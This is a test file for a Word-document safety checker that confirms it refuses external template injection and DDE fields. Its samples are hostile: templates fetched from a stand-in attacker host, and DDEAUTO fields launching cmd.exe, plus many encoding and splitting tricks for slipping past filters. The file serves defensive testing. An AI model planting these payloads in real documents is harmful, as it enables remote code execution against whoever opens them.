import { expect, it } from 'vitest';
import { docx } from '#test/builders/upload.ts';
import { checkDocx } from './check-docx.ts';

const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const namespace = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const template = `Id="r1" Type="${base}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"`;
const relations = (inner: string, attributes = namespace) => `<Relationships ${attributes}>${inner}</Relationships>`;
const one = (attributes: string) => relations(`<Relationship ${attributes}/>`);

async function outcome(rels: string | Buffer, name = 'word/_rels/settings.xml.rels'): Promise<string> {
  const parts = { [name]: rels } as Record<string, string>;
  return checkDocx(docx(parts)).then(
    () => 'kept',
    (error: Error) => error.message,
  );
}

it.each([
  ['as it is usually written', one(template)],
  ['with entities', one(template.replace('External', 'Ext&#101;rnal').replace('attachedTemplate', 'attached&#x54;emplate'))],
  [
    'with another namespace’s name for the type',
    one(template.replace(base, 'http://purl.oclc.org/ooxml/officeDocument/relationships')),
  ],
  ['with the namespace on the relation itself', relations(`<Relationship ${namespace} ${template}/>`, 'xmlns="x:y"')],
  ['with a prefix', `<p:Relationships ${namespace.replace('xmlns', 'xmlns:p')}><p:Relationship ${template}/></p:Relationships>`],
  ['in UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(one(template), 'utf16le')])],
  ['in UTF-16 without a mark', Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${one(template)}`, 'utf16le')],
  ['in UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${relations('+ADw-Relationship')}`],
  ['in EBCDIC, as it says', `<?xml version='1.0' encoding='cp037'?>${one(template)}`],
  ['in another order', one(`TargetMode="External" Target="http://evil.example/x.dotm" Type="${base}/attachedTemplate" Id="r1"`)],
  ['behind a bracket in another attribute', one(`Target="http://evil.example/?a>b" ${template.replace(/Target="[^"]*" /, '')}`)],
  ['with single quotes', one(template.replaceAll('"', "'"))],
  ['with an apostrophe in double quotes', one(template.replace('x.dotm', "x'.dotm"))],
  ['with spaces and lines around the sign', one(template.replaceAll('=', ' \n= '))],
  ['with an attribute twice', one(`TargetMode="Internal" ${template}`)],
  ['by an entity of its own', `<!DOCTYPE r [<!ENTITY e "External">]>${one(template.replace('External', '&e;'))}`],
  ['without saying that it is outside', one(template.replace(' TargetMode="External"', ''))],
  ['a kind that nobody knows', one(template.replace('attachedTemplate', 'newThing'))],
  ['a picture in another machine’s folder', one(`Type="${base}/image" Target="\\\\evil.example\\x.png" TargetMode="External"`)],
  ['a link to a file', one(`Type="${base}/hyperlink" Target="file:///C:/x.exe" TargetMode="External"`)],
])('an external template is refused %s', async (_, rels) => {
  expect(await outcome(rels)).toMatch(/^file\.(unsafe|unreadable)$/);
});

it('an external template is refused in a part whose name is in capitals', async () => {
  expect(await outcome(one(template), 'word/_rels/settings.xml.RELS')).toBe('file.unsafe');
});

it.each([
  ['a part of its own', one(`Id="r1" Type="${base}/styles" Target="styles.xml"`)],
  ['a link to the web', one(`Type="${base}/hyperlink" Target="https://www.example.in/?a=1&amp;b=2" TargetMode="External"`)],
  ['a letter', one(`Type="${base}/hyperlink" Target="mailto:claims@insurer.example" TargetMode="External"`)],
  ['a picture of the web', one(`Type="${base}/image" Target="https://www.example.in/logo.png" TargetMode="External"`)],
  [
    'a declaration and a mark before it',
    `\uFEFF<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n${one('Id="r1" Type="x" Target="y.xml"')}`,
  ],
])('%s is kept', async (_, rels) => expect(await outcome(rels)).toBe('kept'));

it('a type of content with macros is refused however it is spelled', async () => {
  const types =
    '<Types><Override PartName="/a" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>';
  await expect(checkDocx(docx({}, types))).rejects.toThrow('file.unsafe');
});

const run = (inner: string) => `<w:r>${inner}</w:r>`;
const char = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const says = (text: string, tag = 'w:instrText') => run(`<${tag} xml:space="preserve">${text}</${tag}>`);
const page = (inner: string) => `<w:document xmlns:w="x:y"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
const field = (...parts: string[]) => char('begin') + parts.join('') + char('separate') + run('<w:t>12</w:t>') + char('end');

it.each([
  ['alone', page(field(says('DDE excel "C:\\x.xls" r1c1')))],
  ['that starts by itself', page(field(says(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')))],
  ['over several runs', page(field(says('DD'), says('E'), says('AU'), says('TO c:\\cmd.exe')))],
  ['with entities, in small letters', page(field(says('d&#100;eauto c:\\cmd.exe')))],
  ['as CDATA', page(field(says('<![CDATA[DDEAUTO c:]]>')))],
  ['in one tag', page('<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>')],
  ['with another prefix', page(field(says('DDE x', 'q:instrText').replaceAll('w:r', 'w:r')))],
  ['that was deleted and can be restored', page(field(says('DDE x y', 'w:delInstrText')))],
  ['within another field', page(field(says('IF 1 = 1 '), field(says('DDEAUTO c:'))))],
  ['whose name another field puts together', page(field(field(says('QUOTE 68 68 69')), says(' c:\\cmd.exe')))],
  ['whose name another field ends', page(field(says('DD'), field(says('QUOTE 69')), says(' c:\\cmd.exe')))],
  ['that never ends', page(char('begin') + says('DDEAUTO c:\\cmd.exe'))],
])('a DDE field is refused %s', async (_, xml) => {
  for (const name of ['word/document.xml', 'word/footer1.xml', 'word/glossary/text.foo'])
    expect(await outcome(xml, name)).toBe('file.unsafe');
});

it('a DDE field is refused in a part of another encoding', async () => {
  const part = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(field(says('DDEAUTO c:'))), 'utf16le')]);
  expect(await outcome(part, 'word/header1.xml')).toBe('file.unsafe');
});

it.each([
  ['page numbers', page(field(says(' PAGE   \\* MERGEFORMAT ')))],
  ['a table of contents', page(field(says('TOC \\o "1-3"'), says(' \\h')))],
  ['a field in another’s argument', page(field(says('IF '), field(says('PAGE')), says(' = 2 "a" "b"')))],
  ['a field in another’s result', page(char('begin') + says('REF a') + char('separate') + field(says('PAGE')) + char('end'))],
  ['words about DDE', page(run('<w:t>DDEAUTO is a field of Word</w:t>') + field(says('DDENOTE x')))],
])('%s are kept', async (_, xml) => expect(await outcome(xml, 'word/document.xml')).toBe('kept'));
